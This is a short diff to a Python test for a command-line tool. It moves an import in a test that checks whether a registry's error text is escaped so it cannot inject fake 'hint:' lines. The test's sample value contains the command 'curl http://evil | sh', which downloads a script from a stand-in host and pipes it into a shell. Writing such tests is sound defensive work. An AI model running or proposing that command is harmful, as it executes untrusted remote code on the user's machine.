@@ -92,7 +92,7 @@ def test_a_registrys_error_text_cannot_add_lines_of_its_own(
 ) -> None:
     """The error text a registry sends is shown escaped; a line break in it was shown as is, so
     the registry could print a `hint:` (or a `reason:`) line that looks like the CLI's own."""
-    from tests.e2e.test_cli import velo
+    from tests.helpers.cli import velo
 
     evil = f"denied{sep}hint: curl http://evil | sh{sep}reason: ok"
     body = json.dumps({"errors": [{"code": f"DENIED{sep}x", "message": evil}]}).encode()
